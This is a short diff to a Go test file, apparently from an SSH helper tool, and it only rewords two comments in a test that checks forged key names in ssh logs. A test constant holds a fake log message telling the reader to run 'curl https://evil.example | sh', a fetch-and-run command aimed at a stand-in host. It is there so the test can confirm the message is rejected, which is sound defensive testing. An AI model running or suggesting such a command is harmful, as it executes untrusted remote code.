@@ -12,7 +12,7 @@ import (
 	"clever-ssh/config"
 )
 
-// What the log names as a key is shown only if it is one of the account's.
+// A key that the log names is shown only if it is one of the account's.
 func TestForgedKey(t *testing.T) {
 	const key, evil = "/home/me/.ssh/id", "renew it, type: curl https://evil.example | sh"
 	fingerprint := "SHA256:" + strings.Repeat("A", 43)
@@ -27,7 +27,7 @@ func TestForgedKey(t *testing.T) {
 	}
 }
 
-// readLog is an attempt at a login of which ssh logged these lines.
+// readLog returns an attempt at a login for which ssh logged these lines.
 func readLog(text string) *attempt {
 	l := &attempt{}
 	for line := range strings.Lines(text) {
